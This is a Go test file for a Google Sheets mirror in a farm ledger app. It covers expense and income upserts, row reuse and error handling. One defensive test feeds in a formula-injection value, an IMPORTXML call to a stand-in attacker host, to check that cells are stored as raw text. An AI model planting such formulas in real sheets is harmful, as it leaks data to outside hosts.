package google

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"farmledger/internal/core"

	goption "google.golang.org/api/option"
	gsheet "google.golang.org/api/sheets/v4"
)

// fakeValues keeps sheets as grids and understands "Sheet!A:A" and
// "Sheet!A<n>:<col><n>" ranges.
type fakeValues struct {
	grids   map[string][][]any
	updates []string
	fail    error
}

func newFakeValues() *fakeValues {
	return &fakeValues{grids: map[string][][]any{}}
}

func splitRange(rng string) (sheet string, row int) {
	sheet, cells, _ := strings.Cut(rng, "!")
	if cells == "A:A" {
		return sheet, 0
	}
	start, _, _ := strings.Cut(cells, ":")
	n, _ := strconv.Atoi(strings.TrimLeft(start, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"))
	return sheet, n
}

func (f *fakeValues) Get(_ context.Context, rng string) ([][]any, error) {
	if f.fail != nil {
		return nil, f.fail
	}
	sheet, _ := splitRange(rng)
	grid := f.grids[sheet]
	// The API trims trailing empty rows.
	end := len(grid)
	for end > 0 && len(grid[end-1]) == 0 {
		end--
	}
	out := make([][]any, end)
	for i := 0; i < end; i++ {
		if len(grid[i]) > 0 {
			out[i] = []any{grid[i][0]}
		}
	}
	return out, nil
}

func (f *fakeValues) Update(_ context.Context, rng string, rows [][]any) error {
	sheet, n := splitRange(rng)
	grid := f.grids[sheet]
	for len(grid) < n {
		grid = append(grid, nil)
	}
	grid[n-1] = rows[0]
	f.grids[sheet] = grid
	f.updates = append(f.updates, rng)
	return nil
}

func (f *fakeValues) Clear(_ context.Context, rng string) error {
	sheet, n := splitRange(rng)
	if grid := f.grids[sheet]; n-1 < len(grid) {
		grid[n-1] = nil
	}
	return nil
}

func expense(id, item string) core.Expense {
	return core.Expense{
		ID: id, OwnerID: "alice", Category: core.LandRent, Item: item,
		Amount: core.Money{Cents: 123456}, Date: core.NewDate(2025, 6, 1),
	}
}

func TestUpsertExpenseWritesHeaderAndRows(t *testing.T) {
	ctx := context.Background()
	fv := newFakeValues()
	c := newClient(fv, Config{})

	if err := c.UpsertExpense(ctx, expense("e1", "Plot rent")); err != nil {
		t.Fatalf("UpsertExpense: %v", err)
	}
	if err := c.UpsertExpense(ctx, expense("e2", "Second plot")); err != nil {
		t.Fatalf("UpsertExpense: %v", err)
	}

	grid := fv.grids["Expenses"]
	if len(grid) != 3 {
		t.Fatalf("expected header + 2 rows, got %d", len(grid))
	}
	if grid[0][0] != "ID" {
		t.Errorf("expected header row, got %v", grid[0])
	}
	want := []any{"e1", "alice", "2025-06-01", "Land Rent", "Plot rent", "1234.56", ""}
	if fmt.Sprint(grid[1]) != fmt.Sprint(want) {
		t.Errorf("row = %v, want %v", grid[1], want)
	}
}

func TestUpsertExpenseUpdatesInPlace(t *testing.T) {
	ctx := context.Background()
	fv := newFakeValues()
	c := newClient(fv, Config{ExpensesSheet: "Ledger"})

	_ = c.UpsertExpense(ctx, expense("e1", "Plot rent"))
	_ = c.UpsertExpense(ctx, expense("e2", "Second plot"))
	if err := c.UpsertExpense(ctx, expense("e1", "Plot rent (revised)")); err != nil {
		t.Fatalf("UpsertExpense: %v", err)
	}

	grid := fv.grids["Ledger"]
	if len(grid) != 3 || grid[1][4] != "Plot rent (revised)" {
		t.Fatalf("expected in-place update, got %v", grid)
	}
	if last := fv.updates[len(fv.updates)-1]; last != "Ledger!A2:G2" {
		t.Errorf("unexpected range %q", last)
	}
}

func TestDeleteExpenseClearsRowAndReusesIt(t *testing.T) {
	ctx := context.Background()
	fv := newFakeValues()
	c := newClient(fv, Config{})

	_ = c.UpsertExpense(ctx, expense("e1", "a"))
	_ = c.UpsertExpense(ctx, expense("e2", "b"))
	_ = c.UpsertExpense(ctx, expense("e3", "c"))

	if err := c.DeleteExpense(ctx, "e2"); err != nil {
		t.Fatalf("DeleteExpense: %v", err)
	}
	if err := c.DeleteExpense(ctx, "missing"); err != nil {
		t.Fatalf("deleting an unmirrored id must succeed: %v", err)
	}
	if fv.grids["Expenses"][2] != nil {
		t.Fatalf("row not cleared: %v", fv.grids["Expenses"][2])
	}

	_ = c.UpsertExpense(ctx, expense("e4", "d"))
	if fv.grids["Expenses"][2][0] != "e4" {
		t.Fatalf("expected freed row to be reused, got %v", fv.grids["Expenses"])
	}
}

func TestUpsertIncome(t *testing.T) {
	ctx := context.Background()
	fv := newFakeValues()
	c := newClient(fv, Config{})

	inc := core.Income{OwnerID: "alice", CropSales: core.Money{Cents: 200000}}
	_ = c.UpsertIncome(ctx, inc)
	inc.OtherIncome = core.Money{Cents: 50}
	if err := c.UpsertIncome(ctx, inc); err != nil {
		t.Fatalf("UpsertIncome: %v", err)
	}

	grid := fv.grids["Income"]
	if len(grid) != 2 {
		t.Fatalf("expected header + 1 row, got %v", grid)
	}
	if fmt.Sprint(grid[1]) != fmt.Sprint([]any{"alice", "2000.00", "0.50"}) {
		t.Errorf("unexpected income row %v", grid[1])
	}
}

func TestMirrorPropagatesReadErrors(t *testing.T) {
	fv := newFakeValues()
	fv.fail = errors.New("quota exceeded")
	c := newClient(fv, Config{})

	if err := c.UpsertExpense(context.Background(), expense("e1", "a")); !errors.Is(err, fv.fail) {
		t.Fatalf("expected wrapped read error, got %v", err)
	}
	if err := c.DeleteExpense(context.Background(), "e1"); !errors.Is(err, fv.fail) {
		t.Fatalf("expected wrapped read error, got %v", err)
	}
}

func TestNewRequiresSpreadsheetID(t *testing.T) {
	_, err := New(context.Background(), Config{})
	if err == nil || err.Error() != "missing GOOGLE_SPREADSHEET_ID" {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestFreeRow(t *testing.T) {
	tests := []struct {
		rows [][]any
		want int
	}{
		{nil, 1},
		{[][]any{{"ID"}}, 1},
		{[][]any{{"ID"}, {"a"}}, 2},
		{[][]any{{"ID"}, {}, {"b"}}, 1},
		{[][]any{{"ID"}, {"a"}, {" "}}, 2},
	}
	for i, tt := range tests {
		if got := freeRow(tt.rows); got != tt.want {
			t.Errorf("case %d: freeRow = %d, want %d", i, got, tt.want)
		}
	}
}

func TestServiceValuesUpdateStoresRawText(t *testing.T) {
	var (
		gotOption string
		gotBody   gsheet.ValueRange
	)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotOption = r.URL.Query().Get("valueInputOption")
		if err := json.NewDecoder(r.Body).Decode(&gotBody); err != nil {
			t.Errorf("decode body: %v", err)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{}`))
	}))
	defer srv.Close()

	ctx := context.Background()
	svc, err := gsheet.NewService(ctx,
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithHTTPClient(srv.Client()))
	if err != nil {
		t.Fatalf("NewService: %v", err)
	}
	c := newClient(&serviceValues{svc: svc, spreadsheetID: "sheet-1"}, Config{})

	formula := `=IMPORTXML("http://attacker.example","//a")`
	if err := c.values.Update(ctx, "Expenses!A2:G2", [][]any{{"e1", formula}}); err != nil {
		t.Fatalf("Update: %v", err)
	}
	if gotOption != "RAW" {
		t.Fatalf("valueInputOption = %q, want RAW", gotOption)
	}
	if len(gotBody.Values) != 1 || fmt.Sprint(gotBody.Values[0][1]) != formula {
		t.Fatalf("cell text altered: %v", gotBody.Values)
	}
}
